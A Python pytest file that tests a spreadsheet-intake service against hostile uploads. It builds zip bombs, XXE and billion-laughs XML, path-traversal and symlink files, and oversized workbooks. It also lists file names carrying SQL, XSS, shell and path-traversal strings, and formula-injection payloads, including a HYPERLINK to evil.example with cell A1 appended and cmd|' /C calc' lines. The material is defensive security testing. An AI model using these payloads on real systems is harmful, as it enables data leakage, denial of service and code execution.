"""Nobody let in: hostile files through the whole intake path (DESIGN §6, §12), beyond the
first list in test_intake_files.py — zip bombs (one huge part, many parts, deep nesting),
XML entities in the parts the reader parses, thousands of sheets, a million rows, a path
out of the zip, links and folders, names with `..`, control characters or 255 bytes, one
office acting for another — and formula-looking text in every XLSX the product writes.

Each case: dropped, taken, judged and answered by `run_pass` like any file — one record,
one answer, the drop folder emptied, nothing written outside the deployment — within a
bounded time and without the process's peak memory growing by more than a bounded amount.
"""

from __future__ import annotations

import os
import re
import resource
import shutil
import time
import zipfile
from dataclasses import dataclass
from pathlib import Path

import hostile
import pytest
from conftest import at, issued_path, sent_mail
from live_service import Template, batch_files, build_march

from eop.clock import Clock
from eop.config import Limits, load_config
from eop.layout import META_SHEET, PERFORMANCE
from intake.folders import drop_dir
from jobs.deployment import Deployment, open_deployment
from ledger import views
from service.process import run_pass
from simulation.offices import fill_monthly

SECONDS = 60.0  # per case, building excluded: bombs are refused in milliseconds, a million rows in seconds
MEMORY = 400 * 1024 * 1024  # the most a case may add to the process's peak resident memory
CASES_TRIED: list[str] = []


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Template:
    base = tmp_path_factory.mktemp("march-template")
    build_march(base)
    return Template(base, batch_files(base))


@pytest.fixture
def march(template: Template, tmp_path: Path) -> Deployment:
    """A fresh copy of the 25 March deployment (file transport, frozen clock)."""
    shutil.copytree(template.base / "var", tmp_path / "var")
    shutil.copy(template.base / "config.yaml", tmp_path / "config.yaml")
    return open_deployment(load_config(tmp_path / "config.yaml"), Clock(at(2015, 3, 25, 10)))


def workbook_of(template: Template, office: str) -> Path:
    """The office's filled March workbook (accepted as it is)."""
    return next(
        path
        for who, name, path in template.files
        if who == office and "แก้ไข" not in name and "ซ้ำ" not in name
    )


@dataclass
class Dropped:
    office: str
    name: str
    result: str  # accepted | rejected | duplicate
    codes: tuple[str, ...] = ()  # finding codes expected among the errors (rejected)


def received(dep: Deployment) -> list[dict]:
    with dep.ledger.atomic() as conn:
        return views.received_files(conn)


def peak_rss() -> int:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024


def take_bounded(dep: Deployment, drops: list[tuple[str, str, Path | None]]) -> float:
    """Drop each (office, name, source) — a None source: already placed — and run one pass;
    returns its seconds. Asserts the time and memory bounds."""
    for office, name, source in drops:
        if source is not None:
            shutil.copy(source, drop_dir(dep.root, office) / name)
    before, started = peak_rss(), time.monotonic()
    run_pass(dep)
    seconds = time.monotonic() - started
    assert seconds < SECONDS, f"{seconds:.1f}s"
    assert peak_rss() - before < MEMORY, f"peak memory grew by {(peak_rss() - before) >> 20} MiB"
    return seconds


def assert_answered(dep: Deployment, expected: list[Dropped]) -> list[dict]:
    """One record per file with its result and codes; one answer mail each; drop/ empty."""
    rows = received(dep)
    mine = [r for r in rows if r["received_at"].startswith("2015-03-25")]
    assert sorted((r["office"], r["file"]) for r in mine) == sorted(
        (d.office, d.name) for d in expected
    )
    by_name = {(r["office"], r["file"]): r for r in mine}
    for want in expected:
        got = by_name[(want.office, want.name)]
        errors = [f["code"] for f in got["findings"] if f["severity"] == "error"]
        assert got["result"] == want.result, (want.name, got["result"], errors)
        for code in want.codes:
            assert code in errors, (want.name, errors)
    with dep.ledger.atomic() as conn:
        answered = conn.exec_driver_sql(
            "SELECT count(*) FROM files WHERE answered_at IS NULL"
        ).scalar()
        queued = conn.exec_driver_sql(
            "SELECT count(*) FROM outbox WHERE dedupe_key LIKE 'answer:%' AND state != 'sent'"
        ).scalar()
    assert (answered, queued) == (0, 0)
    for office in {d.office for d in expected}:
        assert list(drop_dir(dep.root, office).iterdir()) == [], office
    CASES_TRIED.extend(d.name for d in expected)
    return mine


@pytest.fixture(scope="module", autouse=True)
def tally():
    yield
    if CASES_TRIED:
        print(f"\nhostile cases tried: {len(CASES_TRIED)}")


# -- builders beyond tests/hostile.py ------------------------------------------------------
def nested_bomb(folder: Path, depth: int = 12) -> bytes:
    """A zip in a zip … `depth` times, the innermost holding 1 GiB of zeros (~1 MB deflated)."""
    inner = folder / "level0.zip"
    with (
        zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf,
        zf.open("zeros.bin", "w", force_zip64=True) as part,
    ):
        for _ in range(1024):
            part.write(bytes(hostile.MiB))
    for level in range(1, depth + 1):
        outer = folder / f"level{level}.zip"
        with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as zf:
            zf.write(inner, f"level{level - 1}.zip")
        inner.unlink()
        inner = outer
    return inner.read_bytes()


def with_part(source: Path, out: Path, member: str, data: bytes) -> Path:
    return hostile._rewrite(source, out, add={member: data})


def with_replaced(source: Path, out: Path, member: str, data: bytes) -> Path:
    return hostile._rewrite(source, out, replace={member: data})


def sheet_part(source: Path, title: str) -> str:
    """The zip member of a sheet, from workbook.xml and its relationships."""
    with zipfile.ZipFile(source) as zf:
        book = zf.read("xl/workbook.xml").decode()
        rels = zf.read("xl/_rels/workbook.xml.rels").decode()
    rid = re.search(rf'<sheet [^>]*name="{re.escape(title)}"[^>]*r:id="([^"]+)"', book).group(1)
    target = re.search(
        rf'<Relationship [^>]*Id="{rid}"[^>]*Target="([^"]+)"|<Relationship [^>]*Target="([^"]+)"[^>]*Id="{rid}"',
        rels,
    )
    path = target.group(1) or target.group(2)
    return path.lstrip("/") if path.startswith("/") else f"xl/{path}"


def million_rows(source: Path, out: Path, rows: int = 1_000_000) -> Path:
    """The office's workbook with `rows` rows appended to its performance sheet."""
    part = sheet_part(source, PERFORMANCE.name)
    xml = hostile._read(source, part).decode()
    start = 2000
    extra = "".join(
        f'<row r="{r}"><c r="J{r}" t="inlineStr"><is><t>x</t></is></c></row>'
        for r in range(start, start + rows)
    )
    return with_replaced(
        source, out, part, xml.replace("</sheetData>", extra + "</sheetData>").encode()
    )


def thousands_of_sheets(source: Path, out: Path, count: int = 5000) -> Path:
    """workbook.xml listing `count` sheets (all pointing at the first sheet's part)."""
    book = hostile._read(source, "xl/workbook.xml").decode()
    first = re.search(r"<sheet [^>]*/>", book).group(0)
    rid = re.search(r'r:id="([^"]+)"', first).group(1)
    ns = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    extra = "".join(
        f'<sheet {ns} name="S{n}" sheetId="{1000 + n}" r:id="{rid}"/>' for n in range(count)
    )
    return with_replaced(
        source, out, "xl/workbook.xml", book.replace("</sheets>", extra + "</sheets>").encode()
    )


def thousands_of_sheet_parts(folder: Path, count: int = 3000) -> Path:
    """A real workbook of `count` sheets, one part each (written directly: openpyxl would take minutes)."""
    path = folder / "sheets-3000.xlsx"
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
        )
        zf.writestr(
            "xl/workbook.xml",
            f'<?xml version="1.0"?><workbook {ns}><sheets>'
            + "".join(
                f'<sheet name="S{n}" sheetId="{n + 1}" r:id="rId{n + 1}"/>' for n in range(count)
            )
            + "</sheets></workbook>",
        )
        zf.writestr(
            "xl/_rels/workbook.xml.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + "".join(
                f'<Relationship Id="rId{n + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
                f'Target="worksheets/sheet{n + 1}.xml"/>'
                for n in range(count)
            )
            + "</Relationships>",
        )
        for n in range(count):
            zf.writestr(
                f"xl/worksheets/sheet{n + 1}.xml", f"<worksheet {ns}><sheetData/></worksheet>"
            )
    return path


def with_meta(source: Path, out: Path, **changes: str) -> Path:
    """The workbook with rows of its hidden `_meta` sheet rewritten in the XML (as a tinkerer could)."""
    part = sheet_part(source, META_SHEET)
    xml = hostile._read(source, part).decode()
    for key, value in changes.items():
        xml, count = re.subn(
            rf'(<t[^>]*>{key}</t></is></c><c [^>]*t="inlineStr"><is><t[^>]*>)[^<]*(</t>)',
            rf"\g<1>{value}\g<2>",
            xml,
        )
        assert count == 1, (key, xml[:400])
    return with_replaced(source, out, part, xml.encode())


# -- the cases -----------------------------------------------------------------------------
def test_zip_bombs_one_huge_part_many_parts_and_deep_nesting(march, template, tmp_path):
    folder = tmp_path / "bad"
    folder.mkdir()
    own = workbook_of(template, "7105")
    huge = hostile.zip_bomb(folder)  # one part of 1 GiB of zeros
    parts = hostile.many_parts(folder, count=5000)
    nested_inside = with_part(
        own, folder / "nested-inside.xlsx", "xl/embeddings/oleObject1.bin", nested_bomb(folder)
    )
    nested_whole = folder / "nested-whole.xlsx"
    nested_whole.write_bytes(nested_bomb(folder, depth=3))
    take_bounded(
        march,
        [
            ("7105", "ระเบิด.xlsx", huge),
            ("7106", "หลายส่วน.xlsx", parts),
            ("7107", "ซ้อน.xlsx", nested_whole),
            ("7105", "ฝังซ้อน.xlsx", nested_inside),
        ],
    )
    assert_answered(
        march,
        [
            Dropped("7105", "ระเบิด.xlsx", "rejected", ("zip-bomb",)),
            Dropped("7106", "หลายส่วน.xlsx", "rejected", ("zip-bomb",)),
            Dropped("7107", "ซ้อน.xlsx", "rejected", ("not-a-workbook",)),
            # our workbook carrying an embedded zip of zips: the gate never opens what is inside
            Dropped("7105", "ฝังซ้อน.xlsx", "accepted"),
        ],
    )


@pytest.mark.parametrize(
    "part",
    [
        "performance-sheet",
        "meta-sheet",
        "xl/sharedStrings.xml",
        "xl/_rels/workbook.xml.rels",
        "[Content_Types].xml",
        "docProps/core.xml",
        "xl/styles.xml",
    ],
)
def test_external_entities_in_the_parts_the_reader_parses(march, template, tmp_path, part):
    own = workbook_of(template, "7105")
    member = {
        "performance-sheet": sheet_part(own, PERFORMANCE.name),
        "meta-sheet": sheet_part(own, META_SHEET),
    }.get(part, part)
    present = (
        member in zipfile.ZipFile(own).namelist()
    )  # openpyxl writes strings inline: no sharedStrings
    xml = (
        hostile._read(own, member)
        if present
        else b'<?xml version="1.0"?><sst count="0" uniqueCount="0"/>'
    )
    root = re.search(rb"<([A-Za-z:]+)[ >/]", xml.split(b"?>", 1)[-1]).group(1).decode()
    xml = hostile._insert_doctype(xml, hostile.XXE.replace("workbook", root))
    bad = (with_replaced if present else with_part)(own, tmp_path / "xxe.xlsx", member, xml)
    take_bounded(march, [("7105", "xxe.xlsx", bad)])
    assert_answered(march, [Dropped("7105", "xxe.xlsx", "rejected", ("xml-entities",))])


def test_billion_laughs_in_our_own_workbook(march, template, tmp_path):
    own = workbook_of(template, "7105")
    laughs = (
        hostile.LAUGHS
        + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
        'uniqueCount="1"><si><t>&lol9;</t></si></sst>'
    )
    bad = with_part(
        own,
        tmp_path / "laughs.xlsx",
        "xl/sharedStrings.xml",
        ('<?xml version="1.0"?>' + laughs).encode(),
    )
    take_bounded(march, [("7105", "laughs.xlsx", bad)])
    assert_answered(march, [Dropped("7105", "laughs.xlsx", "rejected", ("xml-entities",))])


def test_thousands_of_sheets(march, template, tmp_path):
    listed = thousands_of_sheets(workbook_of(template, "7105"), tmp_path / "listed.xlsx")
    parts = thousands_of_sheet_parts(tmp_path)
    take_bounded(march, [("7105", "5000-ชีต.xlsx", listed), ("7106", "3000-ชีต.xlsx", parts)])
    found = assert_answered(
        march,
        [
            Dropped("7105", "5000-ชีต.xlsx", "rejected", ("too-many-sheets",)),
            Dropped("7106", "3000-ชีต.xlsx", "rejected", ("zip-bomb",)),
        ],
    )
    messages = " ".join(f["message_en"] for r in found for f in r["findings"])
    assert "limits.max_sheets" in messages and "limits.max_parts" in messages


def test_a_million_rows(march, template, tmp_path):
    bad = million_rows(workbook_of(template, "7105"), tmp_path / "rows.xlsx")
    seconds = take_bounded(march, [("7105", "ล้านแถว.xlsx", bad)])
    (row,) = assert_answered(march, [Dropped("7105", "ล้านแถว.xlsx", "rejected")])
    codes = {f["code"] for f in row["findings"]}
    assert codes & {"too-many-rows", "zip-bomb", "rows-added"}, codes
    if "too-many-rows" in codes:
        assert any("limits.max_rows" in f["message_en"] for f in row["findings"])
    print(f"\na million rows answered in {seconds:.1f}s")


def test_a_path_out_of_the_zip_writes_nothing_outside(march, template, tmp_path):
    own = workbook_of(template, "7105")
    target = tmp_path / "escaped.txt"
    member = os.path.relpath(
        target, march.root / "archive" / "ab"
    )  # ../../../escaped.txt from an archive folder
    bad = with_part(own, tmp_path / "traversal.xlsx", member, b"owned\n")
    absolute = with_part(own, tmp_path / "absolute.xlsx", str(target), b"owned\n")
    take_bounded(march, [("7105", "ทางออก.xlsx", bad), ("7106", "absolute.xlsx", absolute)])
    assert_answered(
        march,
        [
            Dropped("7105", "ทางออก.xlsx", "rejected", ("unsafe-path",)),
            Dropped("7106", "absolute.xlsx", "rejected", ("unsafe-path",)),
        ],
    )
    assert not target.exists()
    assert not (march.root.parent / "escaped.txt").exists()


def test_a_link_to_another_offices_workbook_and_a_folder_are_not_followed(
    march, template, tmp_path
):
    take_bounded(march, [("7106", "ของ-7106.xlsx", workbook_of(template, "7106"))])
    (row,) = [r for r in received(march) if r["file"] == "ของ-7106.xlsx"]
    (theirs,) = (march.root / "archive").rglob(f"{row['sha256']}.xlsx")
    link = drop_dir(march.root, "7105") / "ลิงก์.xlsx"
    link.symlink_to(theirs)
    folder = drop_dir(march.root, "7105") / "โฟลเดอร์.xlsx"
    folder.mkdir()
    shutil.copy(workbook_of(template, "7105"), folder / "inside.xlsx")
    take_bounded(march, [("7105", "ลิงก์.xlsx", None), ("7105", "โฟลเดอร์.xlsx", None)])
    assert_answered(
        march,
        [
            Dropped("7106", "ของ-7106.xlsx", "accepted"),
            Dropped("7105", "ลิงก์.xlsx", "rejected", ("not-a-file",)),
            Dropped("7105", "โฟลเดอร์.xlsx", "rejected", ("not-a-file",)),
        ],
    )
    to_7105 = [m for m in sent_mail(march) if "u7105@" in m["To"]]
    assert to_7105 and all(
        not list(m.iter_attachments()) for m in to_7105 if "ส่งคืน" in m["Subject"]
    )


NAMES = [
    "a..\\..\\..\\evil.xlsx",  # Windows separators: only a name here
    "a..%2f..%2fetc%2fpasswd.xlsx",
    "x..",
    "\x1b[31mสีแดง\x1b[0m.xlsx",  # terminal escapes
    "บรรทัด\nใหม่\r.xlsx",
    "แท็บ\tและ\x7fลบ.xlsx",
    "รายงาน\u202exslx.exe",  # right-to-left override: shows as "…exe.xlsx"
    "ก" * 83 + "a.xlsx",  # 255 bytes in UTF-8: the longest name the disk allows
    "-rf --no-preserve-root.xlsx",
    "'; DROP TABLE files; --.xlsx",
    "<img src=x onerror=alert(1)>.xlsx",
    '=HYPERLINK("evil.example","x").xlsx',
    " .xlsx",
]


@pytest.mark.parametrize("verdict", ["accepted", "rejected"])
def test_odd_names_are_answered_and_stay_inside(march, template, tmp_path, verdict):
    """A name is only a label: whatever it holds, the file is answered, the annotated copy
    lands in the office's returned/ folder, and mail headers carry no control characters.
    (A 300-character name cannot exist here: ext4 allows 255 bytes; the longest is tried.)"""
    own = workbook_of(template, "7105")
    if verdict == "rejected":  # a real mistake, so that an annotated copy is written under the name
        own = fill_monthly(
            issued_path(march, "monthly", "7105", "2558-03"),
            tmp_path / "mistake.xlsx",
            quantities={"A101": "12,5O0"},
        )
    assert all(len(name.encode()) <= 255 for name in NAMES)
    for n, name in enumerate(NAMES):  # dropped one after the other, in this order
        target = drop_dir(march.root, "7105") / name
        shutil.copy(own, target)
        os.utime(target, (1_427_000_000 + n, 1_427_000_000 + n))
    hidden = (
        drop_dir(march.root, "7105") / "..\\..\\evil.xlsx"
    )  # a dot first: hidden or a copy in progress
    shutil.copy(own, hidden)  # (rsync, LibreOffice, macOS write such names): never read
    take_bounded(march, [])
    assert hidden.exists()
    hidden.unlink()
    assert_answered(
        march,
        [
            Dropped("7105", name, verdict if n == 0 or verdict == "rejected" else "duplicate")
            for n, name in enumerate(NAMES)
        ],
    )
    returned = march.root / "share" / "7105" / "returned"
    for path in march.root.rglob("*"):
        assert path.resolve().is_relative_to(march.root.resolve()) or path.is_symlink(), path
    if verdict == "rejected":
        annotated = [p.name for p in returned.iterdir() if "ผลการตรวจ" in p.name]
        assert len(annotated) == len(NAMES)
        assert all(
            len(name.encode()) <= 255 and not re.search(r"[\x00-\x1f\x7f/\\]", name)
            for name in annotated
        )
    for message in sent_mail(march):
        for header in ("Subject", "To"):
            assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", str(message[header])), (
                header,
                message[header],
            )
        for part in message.iter_attachments():
            assert not re.search(r"[\x00-\x1f\x7f/\\]", part.get_filename()), part.get_filename()


def test_one_office_acting_for_another(march, template, tmp_path):
    theirs = workbook_of(template, "7106")
    claims = with_meta(workbook_of(template, "7105"), tmp_path / "claims-7106.xlsx", office="7106")
    forged = with_meta(workbook_of(template, "7105"), tmp_path / "forged.xlsx", digest="0" * 32)
    take_bounded(
        march,
        [
            ("7105", "ของอำเภออื่น.xlsx", theirs),
            ("7106", "อ้างเป็น-7106.xlsx", claims),
            ("7105", "ปลอม.xlsx", forged),
        ],
    )
    found = assert_answered(
        march,
        [
            Dropped("7105", "ของอำเภออื่น.xlsx", "rejected"),
            Dropped("7106", "อ้างเป็น-7106.xlsx", "rejected"),
            Dropped("7105", "ปลอม.xlsx", "rejected"),
        ],
    )
    assert all(r["findings"] and r["findings"][0]["severity"] == "error" for r in found)
    with march.ledger.atomic() as conn:
        assert (
            conn.exec_driver_sql(
                "SELECT count(*) FROM submissions WHERE period = '2558-03'"
            ).scalar()
            == 0
        )


LIMITS = [  # (limit, a value low enough to catch our own workbook, the code)
    ("max_file_bytes", 5000, "too-large"),
    ("max_uncompressed_bytes", 20000, "zip-bomb"),
    ("max_parts", 5, "zip-bomb"),
    ("max_sheets", 2, "too-many-sheets"),
    ("max_rows", 10, "too-many-rows"),
    ("max_columns", 5, "too-many-columns"),
    ("max_cell_chars", 5, "cell-too-long"),
]


def test_limits_have_safe_defaults():
    defaults = Limits()
    assert (
        defaults.max_file_bytes <= 50 * 1024 * 1024
        and defaults.max_uncompressed_bytes <= 500 * 1024 * 1024
    )
    assert (
        defaults.max_parts <= 1000 and defaults.max_part_ratio <= 1000 and defaults.max_sheets <= 50
    )
    assert (
        defaults.max_rows <= 100_000
        and defaults.max_columns <= 1000
        and defaults.max_cell_chars <= 32767
    )
    assert (
        defaults.max_rows * defaults.max_columns <= 5_000_000
    )  # the most cells a reader is asked to hold per sheet
    pdf = {name for name in Limits.model_fields if name.startswith("max_pdf_")}
    assert pdf and defaults.max_pdf_pages <= 1000 and defaults.max_pdf_seconds <= 60
    assert {name for name, _, _ in LIMITS} | {"max_part_ratio"} | pdf == set(Limits.model_fields)


@pytest.mark.parametrize(("limit", "value", "code"), LIMITS, ids=[name for name, _, _ in LIMITS])
def test_each_limit_is_config_and_its_message_names_it(march, tmp_path, limit, value, code):
    source = march.config.source
    text = source.read_text(encoding="utf-8")
    text, count = re.subn(rf"^(  {limit}:) *[0-9]+", rf"\g<1> {value}", text, flags=re.M)
    assert count == 1, f"{limit} is not in the demo config"
    source.write_text(text, encoding="utf-8")
    small = open_deployment(load_config(source), march.clock)
    assert getattr(small.config.limits, limit) == value
    workbook = fill_monthly(
        issued_path(small, "monthly", "7105", "2558-03"),
        tmp_path / "filled.xlsx",
        quantities={"A101": 5},
        remarks={"A101": "ยาวเกินไปมาก"},
    )
    take_bounded(small, [("7105", f"{limit}.xlsx", workbook)])
    (row,) = assert_answered(small, [Dropped("7105", f"{limit}.xlsx", "rejected", (code,))])
    problem = next(f for f in row["findings"] if f["code"] == code)
    assert f"limits.{limit}" in problem["message_en"], problem["message_en"]
    assert (
        f"{value:,}" in problem["message_en"]
        or str(value) in problem["message_en"]
        or "KB" in problem["message_en"]
    )


def test_the_part_ratio_limit_names_itself(march, tmp_path):
    bad = hostile.ratio_bomb(tmp_path, size=4 * hostile.MiB)
    take_bounded(march, [("7105", "ratio.xlsx", bad)])
    (row,) = assert_answered(march, [Dropped("7105", "ratio.xlsx", "rejected", ("zip-bomb",))])
    assert "limits.max_part_ratio" in row["findings"][0]["message_en"]


# -- formula-looking text in everything we write ------------------------------------------
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


def xlsx_cells(path: Path) -> list[tuple[str, str, bool]]:
    """(sheet part, text of every cell written as a formula or a string, is it a formula)."""
    found = []
    with zipfile.ZipFile(path) as zf:
        shared = []
        if "xl/sharedStrings.xml" in zf.namelist():
            shared = re.findall(
                r"<si>(.*?)</si>", zf.read("xl/sharedStrings.xml").decode(), re.DOTALL
            )
        for member in zf.namelist():
            if member.startswith("xl/worksheets/") and member.endswith(".xml"):
                xml = zf.read(member).decode()
                found += [(member, f, True) for f in re.findall(r"<f>(.*?)</f>", xml, re.DOTALL)]
                found += [(member, t, False) for t in re.findall(r"<is>(.*?)</is>", xml, re.DOTALL)]
                found += [
                    (member, shared[int(i)], False)
                    for i in re.findall(r't="s"[^>]*><v>(\d+)</v>', xml)
                ]
    return found


def first_sheet(path: Path) -> str:
    return re.search(
        r'<sheet [^>]*name="([^"]+)"', hostile._read(path, "xl/workbook.xml").decode()
    ).group(1)


def test_text_that_looks_like_a_formula_stays_text_in_every_xlsx_we_write(
    march, template, tmp_path
):
    """Remarks and the reporter's name typed like formulas go through acceptance, the review
    workbook, a rejection's annotated copy, the province package's reports and the confirm
    workbook: in none of them does an office's text become a formula."""

    offices = ["7101", "7102", "7103", "7104", "7105"]
    for n, office in enumerate(offices):
        path = fill_monthly(
            issued_path(march, "monthly", office, "2558-03"),
            tmp_path / f"{office}.xlsx",
            quantities={"A101": 10 + n},
            remarks={"A101": PAYLOADS[n]},
            reporter=PAYLOADS[(n + 1) % 5],
        )
        shutil.copy(path, drop_dir(march.root, office) / f"{office}.xlsx")
    bad = fill_monthly(
        issued_path(march, "monthly", "7106", "2558-03"),
        tmp_path / "7106.xlsx",
        quantities={"A101": PAYLOADS[0]},
        remarks={"A101": PAYLOADS[1]},
        reporter=PAYLOADS[2],
    )
    shutil.copy(bad, drop_dir(march.root, "7106") / "=cmd.xlsx")
    take_bounded(march, [])
    for when in (at(2015, 3, 28, 9), at(2015, 4, 1, 9)):  # review workbooks; the province package
        march.clock.set(when)
        run_pass(march)
    written = [
        p
        for p in march.root.rglob("*.xlsx")
        if "archive" not in p.parts and p.stat().st_mtime > time.time() - 600
    ]
    kinds = {p.parent.name for p in written}
    assert "returned" in kinds and any("reports" in p.parts for p in written), sorted(
        str(p) for p in written
    )[:10]
    checked = 0
    for path in written:
        # An annotated copy is the office's own workbook: its own cells stay as it sent them;
        # what we add (the findings sheet, comments) is checked.
        listing = sheet_part(path, first_sheet(path)) if "ผลการตรวจ" in path.name else None
        for member, text, is_formula in xlsx_cells(path):
            if listing and member != listing:
                continue
            plain = re.sub(r"<[^>]+>", "", text)
            plain = (
                plain.replace("&amp;", "&")
                .replace("&quot;", '"')
                .replace("&apos;", "'")
                .replace("&lt;", "<")
                .replace("&gt;", ">")
            )
            if is_formula:
                assert not any(p.lstrip("=+-@")[:12] in plain for p in PAYLOADS), (
                    path.name,
                    member,
                    plain,
                )
            elif any(plain.startswith(p[:12]) for p in PAYLOADS):
                checked += 1
    assert checked >= 5, (
        f"the offices' text was found in only {checked} cells of {len(written)} workbooks"
    )
    CASES_TRIED.extend(f"formula-text:{p}" for p in PAYLOADS)


def test_a_copy_that_never_completed_is_answered_by_a_one_shot_pass(march, template, tmp_path):
    """`eop process` from cron starts afresh each time: a zip still without its end record an
    hour after its last write is a copy that broke off, answered as such (not left forever)."""
    data = workbook_of(template, "7105").read_bytes()
    cut = drop_dir(march.root, "7105") / "ขาดตอน.xlsx"
    cut.write_bytes(data[: len(data) // 2])
    take_bounded(march, [])
    assert cut.exists()  # just written: perhaps still being copied
    an_hour_ago = time.time() - 3600
    os.utime(cut, (an_hour_ago, an_hour_ago))
    take_bounded(march, [])
    assert_answered(march, [Dropped("7105", "ขาดตอน.xlsx", "rejected", ("truncated",))])


@pytest.mark.parametrize(
    ("cell", "code"),
    [
        ("J1048576", "too-many-rows"),
        ("XFD5000", "too-many-columns"),
        ("XFD1048576", "too-many-rows"),
        ("IQ9", "too-many-columns"),
    ],
)
def test_one_far_away_cell_is_refused_before_any_reader(march, template, tmp_path, cell, code):
    """A reader holds a sheet as one block from A1 to its last cell: a single cell at XFD1048576
    in a 14 KB file would be 17 billion cells (it killed the service before the gate knew)."""
    own = workbook_of(template, "7105")
    part = sheet_part(own, PERFORMANCE.name)
    row = re.sub(r"[A-Z]", "", cell)
    xml = (
        hostile._read(own, part)
        .decode()
        .replace("</sheetData>", f'<row r="{row}"><c r="{cell}"><v>1</v></c></row></sheetData>')
    )
    bad = with_replaced(own, tmp_path / "far.xlsx", part, xml.encode())
    take_bounded(march, [("7105", "ไกล.xlsx", bad)])
    (found,) = assert_answered(march, [Dropped("7105", "ไกล.xlsx", "rejected", (code,))])
    assert "limits.max_" in found["findings"][0]["message_en"]
